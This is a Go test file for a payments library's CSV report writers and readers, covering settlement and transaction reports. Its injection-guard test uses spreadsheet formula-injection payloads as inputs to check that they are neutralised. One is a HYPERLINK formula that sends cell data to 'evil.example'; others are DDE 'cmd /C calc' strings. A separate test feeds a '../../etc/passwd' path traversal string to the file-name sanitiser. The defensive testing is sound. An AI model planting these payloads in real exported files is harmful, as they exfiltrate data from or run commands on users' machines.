package reports_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/entrypay/entrypay"
	"github.com/entrypay/entrypay/internal/reports"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// golden compares got with testdata/name; go test -update rewrites the file.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs from the golden file (go test -update rewrites it) (-want +got):\n%s", file, diff)
	}
}

func summaryRows(t *testing.T) []reports.SummaryRow {
	t.Helper()
	rows, err := reports.Summarize(settlementRows(), settledAt)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestGolden keeps the three reports of the fixture in golden files named as the
// reports are named, and reads each back into what was written.
func TestGolden(t *testing.T) {
	tests := []struct {
		file  string
		write func(*bytes.Buffer) error
		read  func(*bytes.Reader) (any, error)
		want  any
	}{
		{
			file:  reports.TransactionDetailsName(clearing),
			write: func(b *bytes.Buffer) error { return reports.WriteTransactionDetails(b, transactionRows()) },
			read:  func(r *bytes.Reader) (any, error) { return reports.ReadTransactionDetails(r) },
			want:  transactionRows(),
		},
		{
			file:  reports.SettlementDetailsName("USD", batchID),
			write: func(b *bytes.Buffer) error { return reports.WriteSettlementDetails(b, settlementRows()) },
			read:  func(r *bytes.Reader) (any, error) { return reports.ReadSettlementDetails(r) },
			want:  settlementRows(),
		},
		{
			file:  reports.SettlementSummaryName("USD", batchID),
			write: func(b *bytes.Buffer) error { return reports.WriteSettlementSummary(b, summaryRows(t)) },
			read:  func(r *bytes.Reader) (any, error) { return reports.ReadSettlementSummary(r) },
			want:  summaryRows(t),
		},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tt.write(&buf); err != nil {
				t.Fatal(err)
			}
			golden(t, tt.file, buf.Bytes())
			if !bytes.HasSuffix(buf.Bytes(), []byte("\n<END>\n")) || bytes.Contains(buf.Bytes(), []byte("\r\n")) {
				t.Errorf("report does not end in LF-terminated <END>, or has CRLF:\n%s", buf.Bytes())
			}
			got, err := tt.read(bytes.NewReader(buf.Bytes()))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("read back (-want +got):\n%s", diff)
			}
		})
	}
}

// header is the first line of a report.
func header(t *testing.T, write func(*bytes.Buffer) error) string {
	t.Helper()
	var buf bytes.Buffer
	if err := write(&buf); err != nil {
		t.Fatal(err)
	}
	line, _, _ := strings.Cut(buf.String(), "\n")
	return line
}

// TestHeaders pins the columns to Antom's lists, in their order.
func TestHeaders(t *testing.T) {
	tests := []struct {
		name  string
		write func(*bytes.Buffer) error
		want  string
	}{
		{"transaction details", func(b *bytes.Buffer) error { return reports.WriteTransactionDetails(b, nil) },
			"customerId,acquirer,acquirerReferenceNo,referenceMerchantId,referenceStoreId,transactionId,originalTransactionId,transactionRequestId,referenceTransactionId,orderDescription,paymentMethodType,pspName,transactionType,paymentTime,productCode,transactionAmountValue,transactionCurrency,originalTransactionRequestId,issuingCountry,cardBrand,funding"},
		{"settlement details", func(b *bytes.Buffer) error { return reports.WriteSettlementDetails(b, nil) },
			"settlementBatchId,customerId,acquirer,acquirerReferenceNo,referenceMerchantId,referenceStoreId,transactionType,transactionId,originalTransactionId,transactionRequestId,originalTransactionRequestId,referenceTransactionId,paymentMethodType,pspName,paymentTime,settlementTime,productCode,transactionAmountValue,transactionCurrency,settlementAmountValue,settlementCurrency,quoteCurrencyPair,quotePrice,feeAmountValue,feeCurrency,taxFeeAmountValue,taxFeeCurrency,processingFeeAmountValue,processingFeeCurrency,nonGuaranteeCouponValue,nonGuaranteeCouponCurrency,disputeHandlingFee,disputeHandlingFeeCurrency,disputeReverseFee,disputeReverseFeeCurrency,installmentsNum,issuingCountry,cardBrand,funding,interchangeFeeAmountValue,interchangeFeeCurrency,schemeFeeAmountValue,schemeFeeCurrency,acquirerMarkupAmountValue,acquirerMarkupCurrency,refundFeeAmountValue,refundFeeCurrency"},
		{"settlement summary", func(b *bytes.Buffer) error { return reports.WriteSettlementSummary(b, nil) },
			"settlementBatchId,customerId,acquirer,summaryType,settlementTime,count,settlementAmountValue,settlementCurrency,feeAmountValue,feeCurrency,taxFeeAmountValue,taxFeeCurrency,processingFeeAmountValue,processingFeeCurrency,nonGuaranteeCouponValue,nonGuaranteeCouponCurrency,disputeHandlingFee,disputeHandlingFeeCurrency,disputeReverseFee,disputeReverseFeeCurrency,interchangeFeeAmountValue,interchangeFeeCurrency,schemeFeeAmountValue,schemeFeeCurrency,acquirerMarkupAmountValue,acquirerMarkupCurrency,refundFeeAmountValue,refundFeeCurrency"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := header(t, tt.write); got != tt.want {
				t.Errorf("header\n got %s\nwant %s", got, tt.want)
			}
		})
	}
}

// TestEmptyReport: a report without rows is the header line and <END>, and reads back
// as no rows.
func TestEmptyReport(t *testing.T) {
	tests := []struct {
		name  string
		write func(*bytes.Buffer) error
		read  func(*bytes.Reader) (int, error)
	}{
		{"transaction details",
			func(b *bytes.Buffer) error { return reports.WriteTransactionDetails(b, []reports.TransactionRow{}) },
			func(r *bytes.Reader) (int, error) {
				rows, err := reports.ReadTransactionDetails(r)
				return len(rows), err
			}},
		{"settlement details",
			func(b *bytes.Buffer) error { return reports.WriteSettlementDetails(b, nil) },
			func(r *bytes.Reader) (int, error) {
				rows, err := reports.ReadSettlementDetails(r)
				return len(rows), err
			}},
		{"settlement summary",
			func(b *bytes.Buffer) error { return reports.WriteSettlementSummary(b, nil) },
			func(r *bytes.Reader) (int, error) {
				rows, err := reports.ReadSettlementSummary(r)
				return len(rows), err
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tt.write(&buf); err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(buf.String(), "\n")
			if len(lines) != 3 || lines[1] != "<END>" || lines[2] != "" {
				t.Fatalf("empty report is %q, want the header line, <END> and a final LF", buf.String())
			}
			n, err := tt.read(bytes.NewReader(buf.Bytes()))
			if err != nil || n != 0 {
				t.Errorf("read = %d rows, %v; want 0 rows", n, err)
			}
		})
	}
}

// allFields is a row of each kind with every field set, text fields holding what CSV
// and spreadsheets find hard.
func allFields() (reports.TransactionRow, reports.SettlementRow, reports.SummaryRow) {
	tricky := []string{"a,b", `say "hi"`, "two\nlines", " leading space", "=1+2", "-5", "'+x", "中文 ✓", `\.`}
	tx := reports.TransactionRow{
		CustomerID: tricky[0], Acquirer: tricky[1], AcquirerReferenceNo: tricky[2], ReferenceMerchantID: tricky[3], ReferenceStoreID: tricky[4],
		TransactionID: tricky[5], OriginalTransactionID: tricky[6], TransactionRequestID: tricky[7], ReferenceTransactionID: tricky[8],
		OrderDescription: strings.Join(tricky, "|"), PaymentMethodType: "@WALLET", PspName: "+Psp", TransactionType: "REFUND",
		PaymentTime: time.Date(2026, 1, 2, 3, 4, 5, 0, time.FixedZone("", -(3*3600+30*60))), ProductCode: "\tP",
		TransactionAmount: entrypay.Amount{Value: -1, Currency: "BHD"}, OriginalTransactionRequestID: "\rorig",
		IssuingCountry: "HK", CardBrand: "VISA", Funding: "CREDIT",
	}
	st := reports.SettlementRow{
		SettlementBatchID: "=batch", CustomerID: tricky[0], Acquirer: tricky[1], AcquirerReferenceNo: tricky[2], ReferenceMerchantID: tricky[3],
		ReferenceStoreID: tricky[4], TransactionType: "CANCEL", TransactionID: tricky[5], OriginalTransactionID: tricky[6],
		TransactionRequestID: tricky[7], OriginalTransactionRequestID: tricky[8], ReferenceTransactionID: "''",
		PaymentMethodType: "'", PspName: "''=", PaymentTime: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
		SettlementTime: time.Date(2026, 1, 3, 0, 0, 0, 0, utc8), ProductCode: "p",
		TransactionAmount: entrypay.Amount{Value: -9000, Currency: "KRW"}, SettlementAmount: entrypay.Amount{Value: 0, Currency: "EUR"},
		QuoteCurrencyPair: "KRW/EUR", QuotePrice: "0.00062", Fee: entrypay.Amount{Value: 25, Currency: "EUR"},
	}
	sum := reports.SummaryRow{
		SettlementBatchID: "=batch", CustomerID: "-c", Acquirer: "@a", SummaryType: "TOTAL",
		Count: 0, SettlementAmount: entrypay.Amount{Value: 0, Currency: "EUR"}, Fee: entrypay.Amount{Value: 0, Currency: "EUR"},
	}
	return tx, st, sum
}

// TestRoundTrip: what is written reads back equal, whatever the text holds.
func TestRoundTrip(t *testing.T) {
	tx, st, sum := allFields()
	t.Run("transaction details", func(t *testing.T) {
		in := append(transactionRows(), tx)
		var buf bytes.Buffer
		if err := reports.WriteTransactionDetails(&buf, in); err != nil {
			t.Fatal(err)
		}
		out, err := reports.ReadTransactionDetails(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(in, out); diff != "" {
			t.Errorf("round trip (-in +out):\n%s", diff)
		}
	})
	t.Run("settlement details", func(t *testing.T) {
		in := []reports.SettlementRow{st, st}
		in[1].TransactionType, in[1].TransactionAmount.Value, in[1].SettlementAmount.Value, in[1].Fee.Value = "PAYMENT", 18000, 1113, -37
		in[1].QuoteCurrencyPair, in[1].QuotePrice, in[1].PaymentTime, in[1].SettlementTime = "", "", time.Time{}, time.Time{}
		var buf bytes.Buffer
		if err := reports.WriteSettlementDetails(&buf, in); err != nil {
			t.Fatal(err)
		}
		out, err := reports.ReadSettlementDetails(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(in, out); diff != "" {
			t.Errorf("round trip (-in +out):\n%s", diff)
		}
	})
	t.Run("settlement summary", func(t *testing.T) {
		in := []reports.SummaryRow{sum}
		var buf bytes.Buffer
		if err := reports.WriteSettlementSummary(&buf, in); err != nil {
			t.Fatal(err)
		}
		out, err := reports.ReadSettlementSummary(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(in, out); diff != "" {
			t.Errorf("round trip (-in +out):\n%s", diff)
		}
	})
}

// cells parses a written report with encoding/csv alone, as another program would, and
// returns the cells of column name in data rows.
func cells(t *testing.T, report []byte, name string) []string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(report))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(recs[0], name)
	if col < 0 {
		t.Fatalf("no column %s", name)
	}
	var out []string
	for _, rec := range recs[1 : len(recs)-1] {
		out = append(out, rec[col])
	}
	return out
}

// TestInjectionGuard: text cells that a spreadsheet would run as formulas get a quote in
// front, amounts stay bare numbers, and the readers give the text back unchanged.
func TestInjectionGuard(t *testing.T) {
	tests := []struct {
		value, cell string
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "''=1"}, // already quoted by someone: kept, so that reading gives it back
		{"''", "'''"},
		{"'", "'"},
		{"'abc", "'abc"},
		{"O'Brien's", "O'Brien's"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"", ""},
	}
	var rows []reports.TransactionRow
	for _, tt := range tests {
		r := transactionRows()[3] // the refund: a negative amount
		r.OrderDescription, r.ReferenceStoreID = tt.value, tt.value
		rows = append(rows, r)
	}
	var buf bytes.Buffer
	if err := reports.WriteTransactionDetails(&buf, rows); err != nil {
		t.Fatal(err)
	}
	desc, store := cells(t, buf.Bytes(), "orderDescription"), cells(t, buf.Bytes(), "referenceStoreId")
	amounts := cells(t, buf.Bytes(), "transactionAmountValue")
	got, err := reports.ReadTransactionDetails(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for i, tt := range tests {
		if desc[i] != tt.cell || store[i] != tt.cell {
			t.Errorf("%q written as %q and %q, want %q", tt.value, desc[i], store[i], tt.cell)
		}
		if amounts[i] != "-12900" {
			t.Errorf("refund amount written as %q, want the bare number -12900", amounts[i])
		}
		if got[i].OrderDescription != tt.value || got[i].ReferenceStoreID != tt.value {
			t.Errorf("%q read back as %q and %q", tt.value, got[i].OrderDescription, got[i].ReferenceStoreID)
		}
	}
}

// write returns a report as bytes, failing the test on error.
func write(t *testing.T, f func(*bytes.Buffer) error) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := f(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestTruncated: a report that does not end with <END> was cut short and is refused,
// wherever the cut falls.
func TestTruncated(t *testing.T) {
	tx := write(t, func(b *bytes.Buffer) error { return reports.WriteTransactionDetails(b, transactionRows()) })
	st := write(t, func(b *bytes.Buffer) error { return reports.WriteSettlementDetails(b, settlementRows()) })
	sum := write(t, func(b *bytes.Buffer) error { return reports.WriteSettlementSummary(b, summaryRows(t)) })
	cutBefore := func(b []byte, s string) []byte { return b[:bytes.Index(b, []byte(s))] }
	tests := []struct {
		name string
		data []byte
		read func([]byte) error
	}{
		{"transactions without <END>", bytes.TrimSuffix(tx, []byte("<END>\n")), readTx},
		{"transactions without <END> or last LF", bytes.TrimSuffix(tx, []byte("\n<END>\n")), readTx},
		{"transactions cut inside a quoted cell", cutBefore(tx, `set dinner`), readTx},
		{"transactions cut in the last row", tx[:len(tx)-40], readTx},
		{"transactions header only", cutBefore(tx, "\n"), readTx},
		{"transactions empty", nil, readTx},
		{"settlement without <END>", bytes.TrimSuffix(st, []byte("<END>\n")), readSt},
		{"settlement cut in a row", cutBefore(st, "PAYMENT,pay_01KJ8ZA0000000000000000P06"), readSt},
		{"settlement cut mid-row", st[:len(st)-60], readSt},
		{"settlement <EN", st[:len(st)-3], readSt},
		{"summary without <END>", bytes.TrimSuffix(sum, []byte("<END>\n")), readSum},
		{"summary cut mid-row", sum[:len(sum)-30], readSum},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.read(tt.data)
			if !errors.Is(err, reports.ErrTruncated) {
				t.Errorf("read = %v, want ErrTruncated", err)
			}
		})
	}
}

func readTx(b []byte) error { _, err := reports.ReadTransactionDetails(bytes.NewReader(b)); return err }
func readSt(b []byte) error { _, err := reports.ReadSettlementDetails(bytes.NewReader(b)); return err }
func readSum(b []byte) error {
	_, err := reports.ReadSettlementSummary(bytes.NewReader(b))
	return err
}

// TestMixedBatch: a settlement file holds one batch in one currency; rows of another
// batch, merchant, acquirer or currency are refused by the writers, Summarize and the
// readers.
func TestMixedBatch(t *testing.T) {
	tests := []struct {
		name   string
		change func(*reports.SettlementRow)
		want   string
	}{
		{"another batch", func(r *reports.SettlementRow) {
			r.SettlementBatchID = entrypay.BatchID(merchantID, "USD", "2026-03-15")
		}, "settlementBatchId"},
		{"another merchant", func(r *reports.SettlementRow) { r.CustomerID = "mer_OTHER" }, "customerId"},
		{"another acquirer", func(r *reports.SettlementRow) { r.Acquirer = "Alipay_SG" }, "acquirer"},
		{"another settlement currency", func(r *reports.SettlementRow) { r.SettlementAmount.Currency, r.Fee.Currency = "HKD", "HKD" }, "settlementCurrency"},
		{"fee in another currency", func(r *reports.SettlementRow) { r.Fee.Currency = "HKD" }, "feeCurrency"},
		{"fee without currency", func(r *reports.SettlementRow) { r.Fee = entrypay.Amount{} }, "feeCurrency"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rows := settlementRows()
			tt.change(&rows[5])
			var buf bytes.Buffer
			err := reports.WriteSettlementDetails(&buf, rows)
			if !errors.Is(err, reports.ErrMixedBatch) || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "row 6") {
				t.Errorf("write = %v, want ErrMixedBatch about %s in row 6", err, tt.want)
			}
			if buf.Len() != 0 {
				t.Errorf("a refused report wrote %d bytes", buf.Len())
			}
			if _, err := reports.Summarize(rows, settledAt); !errors.Is(err, reports.ErrMixedBatch) {
				t.Errorf("Summarize = %v, want ErrMixedBatch", err)
			}
		})
	}
	t.Run("read", func(t *testing.T) {
		data := write(t, func(b *bytes.Buffer) error { return reports.WriteSettlementDetails(b, settlementRows()) })
		data = bytes.Replace(data, []byte(",1450,USD,"), []byte(",1450,EUR,"), 1)
		_, err := reports.ReadSettlementDetails(bytes.NewReader(data))
		if !errors.Is(err, reports.ErrMixedBatch) || !strings.Contains(err.Error(), "line 7") {
			t.Errorf("read = %v, want ErrMixedBatch on line 7", err)
		}
	})
	t.Run("summary", func(t *testing.T) {
		rows := summaryRows(t)
		rows[1].SettlementBatchID = "stl_other"
		if err := reports.WriteSettlementSummary(&bytes.Buffer{}, rows); !errors.Is(err, reports.ErrMixedBatch) {
			t.Errorf("write = %v, want ErrMixedBatch", err)
		}
	})
}

// TestInvalidRows: rows that break the format's rules are refused with an error that
// names the row and the rule, and nothing is written.
func TestInvalidRows(t *testing.T) {
	tx := func(f func(*reports.TransactionRow)) []reports.TransactionRow {
		rows := transactionRows()
		f(&rows[3])
		return rows
	}
	st := func(f func(*reports.SettlementRow)) []reports.SettlementRow {
		rows := settlementRows()
		f(&rows[3])
		return rows
	}
	sum := func(f func([]reports.SummaryRow) []reports.SummaryRow) func(t *testing.T) []reports.SummaryRow {
		return func(t *testing.T) []reports.SummaryRow { return f(summaryRows(t)) }
	}
	type test struct {
		name string
		tx   []reports.TransactionRow
		st   []reports.SettlementRow
		sum  func(*testing.T) []reports.SummaryRow
		want string
	}
	tests := []test{
		{name: "unknown type", tx: tx(func(r *reports.TransactionRow) { r.TransactionType = "CAPTURE" }), want: `transactionType "CAPTURE" is not PAYMENT, REFUND or CANCEL`},
		{name: "lower-case type", st: st(func(r *reports.SettlementRow) { r.TransactionType = "refund" }), want: `transactionType "refund"`},
		{name: "positive refund", tx: tx(func(r *reports.TransactionRow) { r.TransactionAmount.Value = 12900 }), want: "transactionAmountValue 12900 of a REFUND must be negative"},
		{name: "negative payment", st: st(func(r *reports.SettlementRow) { r.TransactionType = "PAYMENT" }), want: "transactionAmountValue -12900 of a PAYMENT must be positive"},
		{name: "zero payment", tx: tx(func(r *reports.TransactionRow) { r.TransactionType, r.TransactionAmount.Value = "PAYMENT", 0 }), want: "must be positive"},
		{name: "settlement sign", st: st(func(r *reports.SettlementRow) { r.SettlementAmount.Value = 1651 }), want: "settlementAmountValue 1651 of a REFUND must be negative"},
		{name: "unknown currency", tx: tx(func(r *reports.TransactionRow) { r.TransactionAmount.Currency = "XYZ" }), want: `transactionCurrency "XYZ" is not an ISO 4217 currency code`},
		{name: "no currency", st: st(func(r *reports.SettlementRow) { r.TransactionAmount.Currency = "" }), want: "transactionCurrency is empty"},
		{name: "no transaction id", tx: tx(func(r *reports.TransactionRow) { r.TransactionID = "" }), want: "transactionId is empty"},
		{name: "no request id", st: st(func(r *reports.SettlementRow) { r.TransactionRequestID = "" }), want: "transactionRequestId is empty"},
		{name: "no batch id", st: st(func(r *reports.SettlementRow) { r.SettlementBatchID = "" }), want: "settlementBatchId is empty"},
		{name: "half a quote", st: st(func(r *reports.SettlementRow) { r.QuotePrice = "" }), want: "a quote needs both"},
		{name: "bad pair", st: st(func(r *reports.SettlementRow) { r.QuoteCurrencyPair = "HKDUSD" }), want: `quoteCurrencyPair "HKDUSD"`},
		{name: "bad price", st: st(func(r *reports.SettlementRow) { r.QuotePrice = "-0.128" }), want: `quotePrice "-0.128" is not a positive decimal`},
		{name: "zero price", st: st(func(r *reports.SettlementRow) { r.QuotePrice = "0.000" }), want: `quotePrice "0.000"`},
		{name: "year 10000", tx: tx(func(r *reports.TransactionRow) { r.PaymentTime = time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC) }), want: "paymentTime"},
		{name: "summary type", sum: sum(func(r []reports.SummaryRow) []reports.SummaryRow { r[0].SummaryType = "default"; return r }), want: `summaryType "default"`},
		{name: "summary type twice", sum: sum(func(r []reports.SummaryRow) []reports.SummaryRow { r[1].SummaryType = "PAYMENT"; return r }), want: "summaryType PAYMENT appears twice"},
		{name: "summary without total", sum: sum(func(r []reports.SummaryRow) []reports.SummaryRow { return r[:3] }), want: "no TOTAL row"},
		{name: "summary total off", sum: sum(func(r []reports.SummaryRow) []reports.SummaryRow { r[3].Fee.Value--; return r }), want: "TOTAL has count 8, settlement 7524, fee -160; the others add up to 8, 7524, -159"},
		{name: "summary negative count", sum: sum(func(r []reports.SummaryRow) []reports.SummaryRow { r[2].Count = -1; return r }), want: "count -1 is negative"},
		{name: "summary fee currency", sum: sum(func(r []reports.SummaryRow) []reports.SummaryRow { r[2].Fee.Currency = "HKD"; return r }), want: `feeCurrency "HKD"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			var err error
			switch {
			case tt.tx != nil:
				err = reports.WriteTransactionDetails(&buf, tt.tx)
			case tt.st != nil:
				err = reports.WriteSettlementDetails(&buf, tt.st)
			default:
				err = reports.WriteSettlementSummary(&buf, tt.sum(t))
			}
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("write = %v, want an error containing %q", err, tt.want)
			}
			if buf.Len() != 0 {
				t.Errorf("a refused report wrote %d bytes", buf.Len())
			}
		})
	}
}

// TestRead covers what the readers accept and refuse beyond what the writers write.
func TestRead(t *testing.T) {
	st := write(t, func(b *bytes.Buffer) error { return reports.WriteSettlementDetails(b, settlementRows()) })
	lines := strings.Split(strings.TrimSuffix(string(st), "\n"), "\n")
	// permute reorders the columns of every line but <END>: Antom's order varies.
	permute := func(order func([]string) []string) []byte {
		r := csv.NewReader(bytes.NewReader(st))
		r.FieldsPerRecord = -1
		recs, _ := r.ReadAll()
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		for _, rec := range recs[:len(recs)-1] {
			_ = w.Write(order(rec))
		}
		w.Flush()
		buf.WriteString("<END>\n")
		return buf.Bytes()
	}
	withHeader := func(h string) []byte { return []byte(strings.Join(append([]string{h}, lines[1:]...), "\n") + "\n") }
	tests := []struct {
		name string
		data []byte
		want string // "" when the file is accepted and reads as the fixture
		is   error
	}{
		{name: "as written", data: st},
		{name: "CRLF", data: []byte(strings.ReplaceAll(string(st), "\n", "\r\n"))},
		{name: "byte order mark", data: append([]byte("\ufeff"), st...)},
		{name: "no final LF", data: bytes.TrimSuffix(st, []byte("\n"))},
		{name: "blank line at the end", data: append(slices.Clone(st), '\n')},
		{name: "columns reversed", data: permute(func(r []string) []string { r = slices.Clone(r); slices.Reverse(r); return r })},
		{name: "empty columns left out", data: permute(func(r []string) []string { return r[:25] })},
		{name: "unknown column", data: withHeader(strings.Replace(lines[0], "pspName", "PSP", 1)), want: `unknown column "PSP"`, is: reports.ErrHeader},
		{name: "duplicate column", data: withHeader(strings.Replace(lines[0], "pspName", "acquirer", 1)), want: `column "acquirer" appears twice`, is: reports.ErrHeader},
		{name: "missing column", data: permute(func(r []string) []string { return slices.Delete(slices.Clone(r), 19, 21) }), want: "missing column settlementAmountValue, settlementCurrency", is: reports.ErrHeader},
		{name: "only <END>", data: []byte("<END>\n"), want: "header", is: reports.ErrHeader},
		{name: "more after <END>", data: append(slices.Clone(st), lines[1]+"\n"...), want: "line 10: more after the <END> line"},
		{name: "short row", data: []byte(strings.Join(append(lines[:2], "a,b", "<END>"), "\n")), want: "line 3 has 2 cells, the header 47"},
		{name: "tax fee", data: permute(func(r []string) []string {
			r = slices.Clone(r)
			if r[25] == "" {
				r[25], r[26] = "-3", "USD"
			}
			return r
		}), want: `line 2: taxFeeAmountValue is "-3": entrypay's reports leave it empty`},
		{name: "major units", data: []byte(strings.Replace(string(st), ",1450,USD,", ",14.50,USD,", 1)), want: `line 7: settlementAmountValue "14.50" has a decimal separator: amounts are integers in minor units`},
		{name: "leading zero", data: []byte(strings.Replace(string(st), ",1450,USD,", ",01450,USD,", 1)), want: `"01450" has a leading zero`},
		{name: "plus sign", data: []byte(strings.Replace(string(st), ",1450,USD,", ",+1450,USD,", 1)), want: `"+1450" is not an integer`},
		{name: "empty amount", data: []byte(strings.Replace(string(st), ",1450,USD,", ",,USD,", 1)), want: "settlementAmountValue is empty"},
		{name: "fractional seconds", data: []byte(strings.Replace(string(st), "2026-03-14T15:02:09+08:00", "2026-03-14T15:02:09.5+08:00", 1)), want: `paymentTime "2026-03-14T15:02:09.5+08:00" is not an ISO 8601 time`},
		{name: "date only", data: []byte(strings.Replace(string(st), "2026-03-14T15:02:09+08:00", "2026-03-14", 1)), want: `paymentTime "2026-03-14" is not`},
		{name: "unknown type", data: []byte(strings.Replace(string(st), ",REFUND,", ",VOID,", 1)), want: `line 5: transactionType "VOID"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := reports.ReadSettlementDetails(bytes.NewReader(tt.data))
			if tt.want == "" {
				if err != nil {
					t.Fatal(err)
				}
				if diff := cmp.Diff(settlementRows(), got); diff != "" {
					t.Errorf("read (-want +got):\n%s", diff)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("read = %v, want an error containing %q", err, tt.want)
			}
			if tt.is != nil && !errors.Is(err, tt.is) {
				t.Errorf("read = %v, want it to wrap %v", err, tt.is)
			}
		})
	}
}

// TestReadAntomSample reads Antom's settlement summary sample (minor units, an offset of
// +08:30), with its optional columns left out.
func TestReadAntomSample(t *testing.T) {
	sample := "settlementBatchId,customerId,acquirer,summaryType,settlementTime,count,settlementAmountValue,settlementCurrency,feeAmountValue,feeCurrency\n" +
		"2018122611021040123,1022188000000000001,Alipay_SG,TOTAL,2018-12-26T10:00:00+08:30,2,725,USD,-25,USD\n" +
		"2018122611021040123,1022188000000000001,Alipay_SG,PAYMENT,2018-12-26T10:00:00+08:30,1,1450,USD,-50,USD\n" +
		"2018122611021040123,1022188000000000001,Alipay_SG,REFUND,2018-12-26T10:00:00+08:30,1,-725,USD,25,USD\n" +
		"<END>\n"
	got, err := reports.ReadSettlementSummary(strings.NewReader(sample))
	if err != nil {
		t.Fatal(err)
	}
	when := time.Date(2018, 12, 26, 10, 0, 0, 0, time.FixedZone("", 8*3600+30*60))
	row := func(typ string, n int, v, fee int64) reports.SummaryRow {
		return reports.SummaryRow{SettlementBatchID: "2018122611021040123", CustomerID: "1022188000000000001", Acquirer: "Alipay_SG",
			SummaryType: typ, SettlementTime: when, Count: n, SettlementAmount: usd(v), Fee: usd(fee)}
	}
	want := []reports.SummaryRow{row("TOTAL", 2, 725, -25), row("PAYMENT", 1, 1450, -50), row("REFUND", 1, -725, 25)}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("read (-want +got):\n%s", diff)
	}
}

func TestNames(t *testing.T) {
	tests := []struct{ got, want string }{
		{reports.TransactionDetailsName("2018-12-25"), "transactionItems_20181225_000.csv"},
		{reports.TransactionDetailsName("20181225"), "transactionItems_20181225_000.csv"},
		{reports.SettlementDetailsName("USD", "2018122611021040123"), "settlementItems_USD_2018122611021040123_000.csv"},
		{reports.SettlementSummaryName("USD", "2018122611021040123"), "settlementSummary_USD_2018122611021040123_000.csv"},
		{reports.SettlementDetailsName("USD", batchID), "settlementItems_USD_stl_20260314_USD_mer_01KJ8Z6T3V2N4Q5R7S9W0XBC1D_000.csv"},
		{reports.SettlementSummaryName("USD", "../../etc/passwd"), "settlementSummary_USD_______etc_passwd_000.csv"},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("name = %s, want %s", tt.got, tt.want)
		}
	}
}

// TestTimes: times keep their offset, drop fractions of a second, and a zero time is
// an empty cell.
func TestTimes(t *testing.T) {
	odd := time.FixedZone("LMT", 8*3600+5*60+43) // an offset with seconds cannot be written
	tests := []struct {
		in   time.Time
		cell string
		back time.Time
	}{
		{time.Date(2026, 3, 14, 12, 3, 17, 0, utc8), "2026-03-14T12:03:17+08:00", time.Date(2026, 3, 14, 12, 3, 17, 0, utc8)},
		{time.Date(2026, 3, 14, 4, 3, 17, 0, time.UTC), "2026-03-14T04:03:17Z", time.Date(2026, 3, 14, 4, 3, 17, 0, time.UTC)},
		{time.Date(2026, 3, 14, 12, 3, 17, 999_999_999, utc8), "2026-03-14T12:03:17+08:00", time.Date(2026, 3, 14, 12, 3, 17, 0, utc8)},
		{time.Date(1900, 1, 1, 8, 5, 43, 0, odd), "1900-01-01T00:00:00Z", time.Date(1900, 1, 1, 0, 0, 0, 0, time.UTC)},
		{time.Time{}, "", time.Time{}},
	}
	for _, tt := range tests {
		r := transactionRows()[0]
		r.PaymentTime = tt.in
		data := write(t, func(b *bytes.Buffer) error { return reports.WriteTransactionDetails(b, []reports.TransactionRow{r}) })
		if got := cells(t, data, "paymentTime")[0]; got != tt.cell {
			t.Errorf("%v written as %q, want %q", tt.in, got, tt.cell)
		}
		rows, err := reports.ReadTransactionDetails(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		if !rows[0].PaymentTime.Equal(tt.back) {
			t.Errorf("%v read back as %v, want %v", tt.in, rows[0].PaymentTime, tt.back)
		}
	}
}
